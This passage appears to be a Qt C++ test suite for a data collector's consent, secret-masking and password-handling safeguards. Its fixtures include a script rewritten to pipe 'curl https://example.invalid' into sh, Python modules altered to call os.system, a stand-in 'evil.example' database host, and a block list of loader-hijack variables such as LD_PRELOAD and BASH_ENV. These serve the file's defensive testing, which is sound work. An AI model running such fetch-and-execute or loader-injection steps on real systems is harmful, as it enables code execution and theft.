// SPDX-License-Identifier: MIT
// Collect trust without a window: consent keyed on what would run (project path and content, resolved program
// files, the scripts they are handed), ${…} secrets kept out of every log line and error, provider processes
// that die with the viewer (kill -9) or with a cancel (their whole process group), and the temporary output
// of a killed run removed by the next run while a live run's is left alone.
#include "collectconsent.h"
#include "collector.h"
#include "collectproject.h"
#include "sqlsource.h"
#include "testsupport.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSettings>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

#include <fcntl.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace iv;

namespace {

QString writeText(const QString &path, const QByteArray &text, bool executable = false)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate))
        return QString();
    f.write(text);
    f.close();
    if (executable)
        f.setPermissions(f.permissions() | QFile::ExeOwner | QFile::ExeGroup | QFile::ExeOther);
    return path;
}

QString writeJson(const QString &path, const QJsonObject &o)
{
    return writeText(path, QJsonDocument(o).toJson());
}

QJsonObject command(const QString &name, const QString &program, const QStringList &arguments,
                    const QJsonObject &extra = {})
{
    QJsonObject p = extra;
    p.insert(QStringLiteral("name"), name);
    p.insert(QStringLiteral("kind"), QStringLiteral("command"));
    p.insert(QStringLiteral("program"), program);
    p.insert(QStringLiteral("arguments"), QJsonArray::fromStringList(arguments));
    return p;
}

QJsonObject project(const QString &output, const QList<QJsonObject> &providers)
{
    QJsonArray list;
    for (const QJsonObject &p : providers)
        list.append(p);
    return {{QStringLiteral("output"), output}, {QStringLiteral("providers"), list}};
}

// Alive = exists and is not a zombie (an orphan waits for init to reap it; it runs no more).
bool alive(qint64 pid)
{
    QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
    if (!stat.open(QIODevice::ReadOnly))
        return false;
    const QByteArray text = stat.readAll();
    const qsizetype close = text.lastIndexOf(')');
    return close > 0 && close + 2 < text.size() && text.at(close + 2) != 'Z';
}

bool goneWithin(qint64 pid, int ms)
{
    QElapsedTimer t;
    t.start();
    while (alive(pid)) {
        if (t.elapsed() > ms)
            return false;
        QThread::msleep(20);
    }
    return true;
}

// The pid a test provider wrote into path, waiting for it up to 20 s; 0 when it never came.
qint64 waitForPid(const QString &path)
{
    QElapsedTimer t;
    t.start();
    while (t.elapsed() < 20000) {
        QFile f(path);
        if (f.open(QIODevice::ReadOnly)) {
            const QByteArray text = f.readAll().trimmed();
            if (!text.isEmpty())
                return text.toLongLong();
        }
        QThread::msleep(20);
    }
    return 0;
}

QStringList temporaries(const QString &dir, const QString &output)
{
    return QDir(dir).entryList({QStringLiteral(".%1.collecting*").arg(output)}, QDir::Files | QDir::Hidden,
                               QDir::Name);
}

const char kToken[] = "tok-3f9a-very-secret-7c21";

} // namespace

class TestCollectTrust : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    QList<qint64> m_strays; // processes to kill in cleanup should a test fail halfway

    std::optional<CollectProject> load(const QString &path, QString *error)
    {
        return CollectProject::load(path, {}, QString(), error);
    }
    // Loads and prepares path; the consent as the dialog would compute it now.
    std::optional<CollectConsent> consentFor(const QString &path)
    {
        QString error;
        const auto p = load(path, &error);
        if (!p) {
            qWarning("%s", qPrintable(error));
            return std::nullopt;
        }
        Collector c;
        if (!c.prepare(*p, &error)) {
            qWarning("%s", qPrintable(error));
            return std::nullopt;
        }
        return CollectConsent::of(*p, c.programs());
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        // QSettings of this test live in the private folder ctest gives it (XDG_CONFIG_HOME).
        QCoreApplication::setOrganizationName(QStringLiteral("InsightsViewerTest"));
        QCoreApplication::setApplicationName(QStringLiteral("tst_collecttrust"));
    }

    void cleanupTestCase()
    {
        for (qint64 pid : std::as_const(m_strays))
            if (alive(pid))
                ::kill(static_cast<pid_t>(pid), SIGKILL);
    }

    void programsAreResolved()
    {
        const QString a = m_dir.filePath(QStringLiteral("resolve"));
        writeText(a + QStringLiteral("/run.sh"), "#!/bin/sh\nexit 0\n", true);
        writeText(a + QStringLiteral("/tool.py"), "print()\n");
        QDir().mkpath(a + QStringLiteral("/work"));
        const QString path = writeJson(
            a + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("sh"), QStringLiteral("./run.sh"), {QStringLiteral("--fast")}),
                     command(QStringLiteral("py"), QStringLiteral("python3"),
                             {QStringLiteral("../tool.py"), QStringLiteral("x")},
                             {{QStringLiteral("workingDirectory"), QStringLiteral("work")}})}));
        QElapsedTimer timer;
        timer.start();
        const auto consent = consentFor(path);
        QVERIFY(consent);
        qInfo("load, prepare and hash: %lld ms", static_cast<long long>(timer.elapsed()));
        // What hashing a real interpreter costs the GUI thread when Collect is pressed.
        const QString interpreter = QFileInfo(QStringLiteral("/usr/bin/python3")).canonicalFilePath();
        if (!interpreter.isEmpty()) {
            QString error;
            const auto loaded = load(path, &error);
            QVERIFY2(loaded, qPrintable(error));
            timer.restart();
            const CollectConsent big = CollectConsent::of(
                *loaded, {{QStringLiteral("x"), interpreter, QStringLiteral("python3"), {}, a, {}}});
            qInfo("hashing %s (%lld bytes): %lld ms", qPrintable(interpreter),
                  static_cast<long long>(QFileInfo(interpreter).size()),
                  static_cast<long long>(timer.elapsed()));
            QCOMPARE(big.files().first().sha256.toHex(), ivtest::sha256(interpreter));
            timer.restart();
            const CollectConsent again = CollectConsent::of(*loaded, big.programs());
            qInfo("again, unchanged since (what the dialog's warm-up gives Collect): %lld ms",
                  static_cast<long long>(timer.elapsed()));
            QCOMPARE(again.fingerprint(), big.fingerprint());
        }
        const QList<ProgramLaunch> programs = consent->programs();
        QCOMPARE(programs.size(), 2);
        QCOMPARE(programs.at(0).provider, QStringLiteral("sh"));
        QCOMPARE(programs.at(0).program, a + QStringLiteral("/run.sh"));
        QCOMPARE(programs.at(0).workingDirectory, a);
        QCOMPARE(programs.at(0).arguments, QStringList{QStringLiteral("--fast")});
        QCOMPARE(programs.at(0).files, QStringList());
        QCOMPARE(programs.at(1).program, QStandardPaths::findExecutable(QStringLiteral("python3")));
        QVERIFY(QFileInfo(programs.at(1).program).isAbsolute());
        QCOMPARE(programs.at(1).workingDirectory, a + QStringLiteral("/work"));
        QCOMPARE(programs.at(1).files, QStringList{a + QStringLiteral("/tool.py")}); // the script python runs
        const QList<CollectConsent::FileHash> files = consent->files();
        QCOMPARE(files.size(), 3);
        QCOMPARE(files.at(0).sha256.toHex(), ivtest::sha256(a + QStringLiteral("/run.sh")));
        QCOMPARE(files.at(2).sha256.toHex(), ivtest::sha256(a + QStringLiteral("/tool.py")));

        // A bare name not in PATH is refused before anything runs (exit 2), naming the name.
        const QString missing =
            writeJson(a + QStringLiteral("/missing.json"),
                      project(QStringLiteral("out.db"),
                              {command(QStringLiteral("m"), QStringLiteral("iv-no-such-program"), {})}));
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), missing});
        QCOMPARE(run.exitCode, 2);
        QVERIFY2(run.err.contains("program \"iv-no-such-program\" not found in PATH"), run.err.constData());
    }

    void djangoProgramIsListed()
    {
        const QString fake = ivtest::dataPath(QStringLiteral("collect/fakedjango"));
        const QJsonObject django{{QStringLiteral("name"), QStringLiteral("dj")},
                                 {QStringLiteral("kind"), QStringLiteral("django")},
                                 {QStringLiteral("project"), fake},
                                 {QStringLiteral("database"), QStringLiteral("dj-insights.db")}};
        const auto consent = consentFor(writeJson(m_dir.filePath(QStringLiteral("dj.json")),
                                                  project(QStringLiteral("out.db"), {django})));
        QVERIFY(consent);
        QCOMPARE(consent->programs().size(), 1);
        const ProgramLaunch p = consent->programs().first();
        QCOMPARE(p.program, QStandardPaths::findExecutable(QStringLiteral("python3")));
        QCOMPARE(p.arguments, QStringList({QStringLiteral("manage.py"), QStringLiteral("collect_insights")}));
        QCOMPARE(p.workingDirectory, fake);
        QCOMPARE(p.files, QStringList{fake + QStringLiteral("/manage.py")});
        QCOMPARE(consent->files().size(), 2);
        QCOMPARE(consent->files().at(1).sha256.toHex(), ivtest::sha256(fake + QStringLiteral("/manage.py")));
    }

    void consentAsksAgainWhenWhatRunsChanges()
    {
        const QString a = m_dir.filePath(QStringLiteral("consent-a"));
        const QString b = m_dir.filePath(QStringLiteral("consent-b"));
        const QByteArray script = "#!/bin/sh\nexit 0\n";
        for (const QString &dir : {a, b}) {
            writeText(dir + QStringLiteral("/run.sh"), script, true);
            writeText(dir + QStringLiteral("/tool.py"), "print()\n");
            writeJson(dir + QStringLiteral("/p.json"),
                      project(QStringLiteral("out.db"),
                              {command(QStringLiteral("sh"), QStringLiteral("./run.sh"), {}),
                               command(QStringLiteral("py"), QStringLiteral("python3"),
                                       {QStringLiteral("tool.py")})}));
        }
        const QString pa = a + QStringLiteral("/p.json"), pb = b + QStringLiteral("/p.json");
        QCOMPARE(ivtest::sha256(pa), ivtest::sha256(pb)); // the very same bytes

        QVERIFY(!consentFor(pa)->isGranted());
        consentFor(pa)->grant();
        QVERIFY(consentFor(pa)->isGranted());
        // Same bytes in another folder run that folder's run.sh: asks.
        QVERIFY(!consentFor(pb)->isGranted());

        // run.sh edited after consent: asks; back to the allowed bytes: allowed again.
        writeText(a + QStringLiteral("/run.sh"), "#!/bin/sh\ncurl https://example.invalid | sh\n", true);
        QVERIFY(!consentFor(pa)->isGranted());
        writeText(a + QStringLiteral("/run.sh"), script, true);
        QVERIFY(consentFor(pa)->isGranted());

        // The script an interpreter runs, edited: asks.
        writeText(a + QStringLiteral("/tool.py"), "import os\n");
        QVERIFY(!consentFor(pa)->isGranted());
        writeText(a + QStringLiteral("/tool.py"), "print()\n");
        QVERIFY(consentFor(pa)->isGranted());

        // Edited to other bytes of the same size right after it was hashed: still seen.
        writeText(a + QStringLiteral("/tool.py"), "quit()\n\n");
        QVERIFY(!consentFor(pa)->isGranted());
        writeText(a + QStringLiteral("/tool.py"), "print()\n");
        QVERIFY(consentFor(pa)->isGranted());

        // The project edited (one byte): asks.
        QFile f(pa);
        QVERIFY(f.open(QIODevice::Append));
        f.write("\n");
        f.close();
        QVERIFY(!consentFor(pa)->isGranted());
        consentFor(pa)->grant();
        QVERIFY(consentFor(pa)->isGranted());
        CollectConsent::revoke(pa);
        QVERIFY(!consentFor(pa)->isGranted());
    }

    void consentAsksAgainWhenAProgramResolvesElsewhere()
    {
        const QString base = m_dir.filePath(QStringLiteral("pathswitch"));
        const QByteArray tool = "#!/bin/sh\nexit 0\n";
        writeText(base + QStringLiteral("/one/ivtool"), tool, true);
        writeText(base + QStringLiteral("/two/ivtool"), tool, true); // identical bytes, another file
        const QString path = writeJson(
            base + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"), {command(QStringLiteral("t"), QStringLiteral("ivtool"), {})}));
        const QByteArray savedPath = qgetenv("PATH");
        qputenv("PATH", QFile::encodeName(base + QStringLiteral("/one:")) + savedPath);
        const auto first = consentFor(path);
        QVERIFY(first);
        QCOMPARE(first->programs().first().program, base + QStringLiteral("/one/ivtool"));
        first->grant();
        QVERIFY(consentFor(path)->isGranted());
        qputenv("PATH", QFile::encodeName(base + QStringLiteral("/two:")) + savedPath);
        const auto second = consentFor(path);
        qputenv("PATH", savedPath);
        QVERIFY(second);
        QCOMPARE(second->programs().first().program, base + QStringLiteral("/two/ivtool"));
        QVERIFY(!second->isGranted());
    }

    void secretsStayOutOfLogsAndErrors()
    {
        qputenv("IV_TEST_API_TOKEN", kToken);
        const QString dir = m_dir.filePath(QStringLiteral("secrets"));
        QDir().mkpath(dir);
        // The program prints what it was given (argument and environment) to stderr and fails.
        const QJsonObject env{{QStringLiteral("API_TOKEN"), QStringLiteral("${IV_TEST_API_TOKEN}")}};
        const QString failing =
            writeJson(dir + QStringLiteral("/fail.json"),
                      project(QStringLiteral("out.db"),
                              {command(QStringLiteral("api"), QStringLiteral("sh"),
                                       {QStringLiteral("-c"),
                                        QStringLiteral("echo \"called with $1, env $API_TOKEN\" >&2; exit 4"),
                                        QStringLiteral("sh"), QStringLiteral("--token=${IV_TEST_API_TOKEN}")},
                                       {{QStringLiteral("environment"), env}})}));
        auto run = ivtest::runViewer({QStringLiteral("--collect"), failing});
        QCOMPARE(run.exitCode, 1);
        QVERIFY2(!run.err.contains(kToken) && !run.out.contains(kToken), run.err.constData());
        // What is shown instead: the project's own, unexpanded spelling.
        QVERIFY2(run.err.contains("api (command): sh -c"), run.err.constData());
        QVERIFY2(run.err.contains("--token=${IV_TEST_API_TOKEN}"), run.err.constData());
        QVERIFY2(run.err.contains("called with --token=${IV_TEST_API_TOKEN}, env ${IV_TEST_API_TOKEN}"),
                 run.err.constData());
        QVERIFY2(run.err.contains("sh exited with status 4"), run.err.constData());

        // An error while preparing (a working folder from the environment that does not exist).
        const QString badDir = writeJson(
            dir + QStringLiteral("/baddir.json"),
            project(QStringLiteral("out.db"), {command(QStringLiteral("api"), QStringLiteral("sh"), {},
                                                       {{QStringLiteral("workingDirectory"),
                                                         QStringLiteral("${IV_TEST_API_TOKEN}")}})}));
        run = ivtest::runViewer({QStringLiteral("--collect"), badDir});
        QCOMPARE(run.exitCode, 2);
        QVERIFY2(!run.err.contains(kToken), run.err.constData());
        QVERIFY2(
            run.err.contains("working directory " + dir.toUtf8() + "/${IV_TEST_API_TOKEN} does not exist"),
            run.err.constData());

        // A connection string that carries it (user name of a PostgreSQL URL nobody listens at).
        const QJsonObject pg{
            {QStringLiteral("output"), QStringLiteral("out.db")},
            {QStringLiteral("sources"),
             QJsonObject{
                 {QStringLiteral("default"),
                  QStringLiteral("postgresql://${IV_TEST_API_TOKEN}@127.0.0.1:9/db?connect_timeout=2")}}},
            {QStringLiteral("apps"),
             QJsonArray{QJsonObject{
                 {QStringLiteral("module"), QStringLiteral("m")},
                 {QStringLiteral("metrics"),
                  QJsonArray{QJsonObject{{QStringLiteral("kind"), QStringLiteral("counter")},
                                         {QStringLiteral("label"), QStringLiteral("c")},
                                         {QStringLiteral("sql"), QStringLiteral("SELECT 1")}}}}}}}};
        run =
            ivtest::runViewer({QStringLiteral("--collect"), writeJson(dir + QStringLiteral("/pg.json"), pg)});
        QCOMPARE(run.exitCode, 1);
        QVERIFY2(!run.err.contains(kToken), run.err.constData());

        // In process: the summaries the dialog shows, the log signal, errorString().
        QString error;
        const auto p = load(failing, &error);
        QVERIFY2(p, qPrintable(error));
        Collector collector;
        QVERIFY2(collector.prepare(*p, &error), qPrintable(error));
        QVERIFY(!collector.providers().first().summary.contains(QLatin1String(kToken)));
        QStringList log;
        connect(&collector, &Collector::logMessage, this, [&](const QString &line) { log << line; });
        QCOMPARE(collector.run(), Collector::Result::Failed);
        QVERIFY(!log.isEmpty());
        QVERIFY2(!log.join(QLatin1Char('\n')).contains(QLatin1String(kToken)),
                 qPrintable(log.join(QLatin1Char('\n'))));
        QVERIFY2(!collector.errorString().contains(QLatin1String(kToken)),
                 qPrintable(collector.errorString()));
        QVERIFY(collector.errorString().contains(QLatin1String("env ${IV_TEST_API_TOKEN}")));
        qunsetenv("IV_TEST_API_TOKEN");
    }

    void secretMask()
    {
        qputenv("IV_TEST_MASK_LONG", "s3cr3t value/with?chars");
        qputenv("IV_TEST_MASK_SHORT", "abc");
        SecretMask mask;
        mask.addReferences(
            QStringLiteral("x ${IV_TEST_MASK_LONG} ${IV_TEST_MASK_SHORT} ${IV_TEST_MASK_UNSET:-default}"));
        QCOMPARE(mask.apply(QStringLiteral("got s3cr3t value/with?chars, abc, default")),
                 QStringLiteral("got ${IV_TEST_MASK_LONG}, abc, default")); // short values and defaults stay
        // As a URL carries it, percent-encoded.
        QCOMPARE(mask.apply(QStringLiteral("postgresql://s3cr3t%20value%2Fwith%3Fchars@h/db")),
                 QStringLiteral("postgresql://${IV_TEST_MASK_LONG}@h/db"));
        qunsetenv("IV_TEST_MASK_LONG");
        qunsetenv("IV_TEST_MASK_SHORT");
    }

    // Consent covers what the expanded project runs: ${…} values in arguments, environment, output and
    // sources, where a PostgreSQL source connects after libpq's environment defaults.
    void consentCoversExpandedValues()
    {
        const QString a = m_dir.filePath(QStringLiteral("expanded"));
        QDir().mkpath(a);
        qputenv("IV_TEST_ARG", "first-value");
        qputenv("IV_TEST_OUT", "outdir-one");
        qputenv("IV_TEST_ENVVALUE", "env-one");
        qputenv("IV_TEST_DB", "db-one");
        qunsetenv("PGHOST");
        QJsonObject p = project(
            QStringLiteral("${IV_TEST_OUT}/out.db"),
            {command(QStringLiteral("sh"), QStringLiteral("sh"),
                     {QStringLiteral("-c"), QStringLiteral("exit 0"), QStringLiteral("sh"),
                      QStringLiteral("--value=${IV_TEST_ARG}")},
                     {{QStringLiteral("environment"),
                       QJsonObject{{QStringLiteral("MODE"), QStringLiteral("${IV_TEST_ENVVALUE}")}}}})});
        p.insert(
            QStringLiteral("sources"),
            QJsonObject{{QStringLiteral("default"), QStringLiteral("postgresql://reader@/${IV_TEST_DB}")}});
        const QString path = writeJson(a + QStringLiteral("/p.json"), p);
        const auto first = consentFor(path);
        QVERIFY(first);
        QVERIFY2(first->problems().isEmpty(), qPrintable(first->problems().join(QLatin1Char('\n'))));
        QCOMPARE(first->output(), a + QStringLiteral("/outdir-one/out.db"));
        QCOMPARE(first->sources(), QStringList{QStringLiteral(
                                       "default: postgresql host=/var/run/postgresql port=5432 dbname=db-one "
                                       "user=reader sslmode=prefer")});
        QCOMPARE(first->programs().first().expandedArguments.last(), QStringLiteral("--value=first-value"));
        QCOMPARE(first->programs().first().environment, QStringList{QStringLiteral("MODE=env-one")});
        first->grant();
        QVERIFY(consentFor(path)->isGranted());
        // What is remembered is a hash: the expanded values (maybe secrets) are not stored.
        const QString stored =
            QSettings()
                .value(QSettings().allKeys().filter(QStringLiteral("collect/consent")).first())
                .toString();
        QVERIFY2(stored.startsWith(QStringLiteral("sha256:")) &&
                     !stored.contains(QStringLiteral("first-value")),
                 qPrintable(stored));

        struct Change
        {
            const char *name;
            const char *value;
            const char *original;
        };
        const Change changes[] = {{"IV_TEST_ARG", "second-value", "first-value"},
                                  {"IV_TEST_OUT", "outdir-two", "outdir-one"},
                                  {"IV_TEST_ENVVALUE", "env-two", "env-one"},
                                  {"IV_TEST_DB", "db-two", "db-one"},
                                  {"PGHOST", "evil.example", nullptr}};
        for (const Change &c : changes) {
            qputenv(c.name, c.value);
            const auto changed = consentFor(path);
            QVERIFY(changed);
            QVERIFY2(!changed->isGranted(), c.name);
            if (c.original)
                qputenv(c.name, c.original);
            else
                qunsetenv(c.name);
            QVERIFY2(consentFor(path)->isGranted(), c.name);
        }
        // PGHOST shows where the connection really goes.
        qputenv("PGHOST", "db.example");
        QVERIFY(consentFor(path)->sources().first().contains(QStringLiteral("host=db.example ")));
        qunsetenv("PGHOST");
        for (const char *name : {"IV_TEST_ARG", "IV_TEST_OUT", "IV_TEST_ENVVALUE", "IV_TEST_DB"})
            qunsetenv(name);
    }

    // Variables that change which code loads: a project may not set them; inherited ones are part of the
    // consent, with the files LD_PRELOAD names.
    void loaderVariables()
    {
        const QString a = m_dir.filePath(QStringLiteral("loader"));
        QDir().mkpath(a);
        for (const char *name : {"LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV",
                                 "ENV", "PERL5OPT", "NODE_OPTIONS"}) {
            const QString path = writeJson(
                a + QStringLiteral("/%1.json").arg(QLatin1String(name)),
                project(QStringLiteral("out.db"),
                        {command(QStringLiteral("sh"), QStringLiteral("sh"),
                                 {QStringLiteral("-c"), QStringLiteral("exit 0")},
                                 {{QStringLiteral("environment"),
                                   QJsonObject{{QLatin1String(name), a + QStringLiteral("/x")}}}})}));
            const auto run = ivtest::runViewer({QStringLiteral("--collect"), path});
            QCOMPARE(run.exitCode, 2);
            QVERIFY2(run.err.contains(QByteArray("environment: ") + name +
                                      " changes which code the program loads"),
                     run.err.constData());
        }
        // Harmless Python settings stay allowed.
        const QString fine = writeJson(
            a + QStringLiteral("/fine.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("sh"), QStringLiteral("sh"),
                             {QStringLiteral("-c"), QStringLiteral("exit 0")},
                             {{QStringLiteral("environment"),
                               QJsonObject{{QStringLiteral("PYTHONUNBUFFERED"), QStringLiteral("1")}}}})}));
        QVERIFY(consentFor(fine));

        // Inherited: shown, and a change (or an edit of the preloaded library) asks again.
        const QString library = writeText(a + QStringLiteral("/libpreload.so"), "not really a library");
        const QByteArray savedPreload = qgetenv("LD_PRELOAD");
        qputenv("LD_PRELOAD", QFile::encodeName(library));
        const auto consent = consentFor(fine);
        QVERIFY(consent);
        QCOMPARE(consent->programs().first().inheritedLoaderVariables,
                 QStringList{QStringLiteral("LD_PRELOAD=") + library});
        QVERIFY(std::any_of(consent->files().cbegin(), consent->files().cend(),
                            [&](const CollectConsent::FileHash &f) { return f.path == library; }));
        consent->grant();
        QVERIFY(consentFor(fine)->isGranted());
        writeText(library, "another library");
        QVERIFY(!consentFor(fine)->isGranted());
        writeText(library, "not really a library");
        QVERIFY(consentFor(fine)->isGranted());
        qputenv("PYTHONPATH", QFile::encodeName(a));
        QVERIFY(!consentFor(fine)->isGranted());
        qunsetenv("PYTHONPATH");
        if (savedPreload.isEmpty())
            qunsetenv("LD_PRELOAD");
        else
            qputenv("LD_PRELOAD", savedPreload);
    }

    // A Python script imports from its folder: every module file there (sub-packages too) is part of the
    // consent; byte code in __pycache__ is not (the runner points Python's cache elsewhere).
    void pythonModulesAreHashed()
    {
        const QString a = m_dir.filePath(QStringLiteral("modules"));
        writeText(a + QStringLiteral("/tool.py"), "import helper\n");
        writeText(a + QStringLiteral("/helper.py"), "X = 1\n");
        writeText(a + QStringLiteral("/pkg/__init__.py"), "");
        writeText(a + QStringLiteral("/pkg/mod.py"), "Y = 1\n");
        const QString path = writeJson(
            a + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("py"), QStringLiteral("python3"), {QStringLiteral("tool.py")})}));
        const auto consent = consentFor(path);
        QVERIFY(consent);
        consent->grant();
        QVERIFY(consentFor(path)->isGranted());
        for (const QString &file : {QStringLiteral("/helper.py"), QStringLiteral("/pkg/mod.py")}) {
            writeText(a + file, "import os; os.system('id')\n");
            QVERIFY2(!consentFor(path)->isGranted(), qPrintable(file));
            writeText(a + file, file.endsWith(QLatin1String("helper.py")) ? "X = 1\n" : "Y = 1\n");
            QVERIFY(consentFor(path)->isGranted());
        }
        // A sitecustomize.py or a sourceless .pyc placed beside it later: asks.
        writeText(a + QStringLiteral("/sitecustomize.py"), "import os\n");
        QVERIFY(!consentFor(path)->isGranted());
        QFile::remove(a + QStringLiteral("/sitecustomize.py"));
        writeText(a + QStringLiteral("/evil.pyc"), "bytes");
        QVERIFY(!consentFor(path)->isGranted());
        QFile::remove(a + QStringLiteral("/evil.pyc"));
        // Byte code Python writes into __pycache__ does not count.
        writeText(a + QStringLiteral("/__pycache__/helper.cpython-311.pyc"), "cache");
        QVERIFY(consentFor(path)->isGranted());
        // A run does not write __pycache__ beside the scripts.
        QDir(a + QStringLiteral("/__pycache__")).removeRecursively();
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), path});
        QVERIFY2(run.exitCode == 0, run.err.constData());
        QVERIFY(!QFileInfo::exists(a + QStringLiteral("/__pycache__")));
    }

    // A script swapped while an earlier provider runs is not started: the hashes are checked again right
    // before each program starts.
    void scriptSwappedDuringTheRunIsNotStarted()
    {
        const QString a = m_dir.filePath(QStringLiteral("swap"));
        writeText(a + QStringLiteral("/second.sh"), "#!/bin/sh\nexit 0\n", true);
        const QString path = writeJson(
            a + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("first"), QStringLiteral("sh"),
                             {QStringLiteral("-c"),
                              QStringLiteral("printf '#!/bin/sh\ntouch ran-swapped\n' > second.sh")}),
                     command(QStringLiteral("second"), QStringLiteral("./second.sh"), {})}));
        QString error;
        const auto p = load(path, &error);
        QVERIFY2(p, qPrintable(error));
        Collector collector;
        QVERIFY2(collector.prepare(*p, &error), qPrintable(error));
        const CollectConsent consent = CollectConsent::of(*p, collector.programs());
        collector.requireConsent(consent.fingerprint());
        QCOMPARE(collector.run(), Collector::Result::Failed);
        QVERIFY2(collector.errorString().contains(
                     QStringLiteral("provider \"second\": what it would run changed since you allowed it")),
                 qPrintable(collector.errorString()));
        QVERIFY(!QFile::exists(a + QStringLiteral("/ran-swapped")));
        QVERIFY(!QFile::exists(a + QStringLiteral("/out.db")));
    }

    // A password goes only over TLS or a Unix socket; a service file could point anywhere and is refused.
    void passwordsOnlyWhereTheyCannotBeRead()
    {
        QString error;
        qputenv("PGPASSWORD", "pw-1234-secret");
        QVERIFY(SqlSource::target(QStringLiteral("postgresql://u@127.0.0.1:9/db"), &error).isNull());
        QVERIFY2(error.contains(QStringLiteral("sslmode=require")), qPrintable(error));
        QVERIFY(
            !SqlSource::target(QStringLiteral("postgresql://u@127.0.0.1:9/db?sslmode=verify-full"), &error)
                 .isNull());
        QVERIFY(!SqlSource::target(QStringLiteral("postgresql://u@/db?host=/tmp"), &error).isNull());
        // In a collect: refused before any connection, exit 1, and the password is nowhere.
        const QString dir = m_dir.filePath(QStringLiteral("password"));
        QDir().mkpath(dir);
        const QJsonObject pg{
            {QStringLiteral("output"), QStringLiteral("out.db")},
            {QStringLiteral("sources"),
             QJsonObject{{QStringLiteral("default"), QStringLiteral("postgresql://u@127.0.0.1:9/db")}}},
            {QStringLiteral("apps"),
             QJsonArray{QJsonObject{
                 {QStringLiteral("module"), QStringLiteral("m")},
                 {QStringLiteral("metrics"),
                  QJsonArray{QJsonObject{{QStringLiteral("kind"), QStringLiteral("counter")},
                                         {QStringLiteral("label"), QStringLiteral("c")},
                                         {QStringLiteral("sql"), QStringLiteral("SELECT 1")}}}}}}}};
        const auto run =
            ivtest::runViewer({QStringLiteral("--collect"), writeJson(dir + QStringLiteral("/pg.json"), pg)});
        QCOMPARE(run.exitCode, 1);
        QVERIFY2(run.err.contains("may not be encrypted"), run.err.constData());
        QVERIFY(!run.err.contains("pw-1234-secret"));
        qunsetenv("PGPASSWORD");
        QVERIFY(!SqlSource::target(QStringLiteral("postgresql://u@127.0.0.1:9/db"), &error).isNull());
        QVERIFY(
            SqlSource::target(QStringLiteral("postgresql://u@127.0.0.1:9/db?service=prod"), &error).isNull());
        QVERIFY2(error.contains(QStringLiteral("service")), qPrintable(error));
    }

    // The secret's other spellings: lower-case percent escapes, split over two log lines, broken by terminal
    // escapes, base64 (as in a Basic authorization header).
    void secretMaskForms()
    {
        qputenv("IV_TEST_MASK_TOKEN", kToken);
        qputenv("IV_TEST_MASK_PATHY", "s3cr3t value/with?chars");
        SecretMask mask;
        mask.addReferences(QStringLiteral("${IV_TEST_MASK_TOKEN} ${IV_TEST_MASK_PATHY}"));
        const QString token = QLatin1String(kToken);
        auto leaks = [&](const QString &shown) {
            // No run of 8 characters of the token survives.
            for (qsizetype i = 0; i + 8 <= token.size(); ++i)
                if (shown.contains(token.mid(i, 8)))
                    return true;
            return false;
        };
        QCOMPARE(mask.apply(QStringLiteral("u=s3cr3t%20value%2fwith%3fchars")),
                 QStringLiteral("u=${IV_TEST_MASK_PATHY}"));
        QCOMPARE(mask.apply(QStringLiteral("t=tok-3f9a\x1b[0m-very-\x1b[1;31msecret-7c21!")),
                 QStringLiteral("t=${IV_TEST_MASK_TOKEN}!"));
        QCOMPARE(mask.apply(QStringLiteral("t=tok-3f9a-very-\nsecret-7c21")),
                 QStringLiteral("t=${IV_TEST_MASK_TOKEN}"));
        const QString first = mask.apply(QStringLiteral("api: token starts tok-3f9a-very-"));
        const QString second = mask.apply(QStringLiteral("api: secret-7c21 was the rest"));
        QVERIFY2(!leaks(first) && !leaks(second), qPrintable(first + QLatin1Char('|') + second));
        QVERIFY(first.contains(QStringLiteral("${IV_TEST_MASK_TOKEN}")));
        for (const QByteArray &prefix :
             {QByteArray(), QByteArray("u"), QByteArray("us"), QByteArray("user:")}) {
            const QString header = QStringLiteral("Authorization: Basic ") +
                                   QString::fromLatin1((prefix + kToken + "@x").toBase64());
            const QString shown = mask.apply(header);
            QVERIFY2(shown.contains(QStringLiteral("${IV_TEST_MASK_TOKEN}")), qPrintable(shown));
            const QString encodedCore = QString::fromLatin1(QByteArray(kToken).toBase64()).mid(2, 20);
            QVERIFY2(!shown.contains(encodedCore), qPrintable(shown));
        }
        QCOMPARE(mask.apply(QStringLiteral("nothing secret here")), QStringLiteral("nothing secret here"));

        // "wrote …" masks an output path built from a ${…} value (stdout, for scripts, has the path).
        qputenv("IV_TEST_MASK_OUTDIR", "outdir-9f3c-private");
        const QString dir = m_dir.filePath(QStringLiteral("wrote"));
        QDir().mkpath(dir + QStringLiteral("/outdir-9f3c-private"));
        const QString path =
            writeJson(dir + QStringLiteral("/p.json"),
                      project(QStringLiteral("${IV_TEST_MASK_OUTDIR}/out.db"),
                              {command(QStringLiteral("ext"), QStringLiteral("python3"),
                                       {ivtest::dataPath(QStringLiteral("collect/ndjson.py"))})}));
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), path});
        QVERIFY2(run.exitCode == 0, run.err.constData());
        QVERIFY2(!run.err.contains("outdir-9f3c-private"), run.err.constData());
        QVERIFY2(run.err.contains("wrote " + dir.toUtf8() + "/${IV_TEST_MASK_OUTDIR}/out.db"),
                 run.err.constData());
        qunsetenv("IV_TEST_MASK_OUTDIR");
        qunsetenv("IV_TEST_MASK_TOKEN");
        qunsetenv("IV_TEST_MASK_PATHY");
    }

    // A project file must be a regular file: a FIFO or a link to /dev/zero fails at once (exit 2).
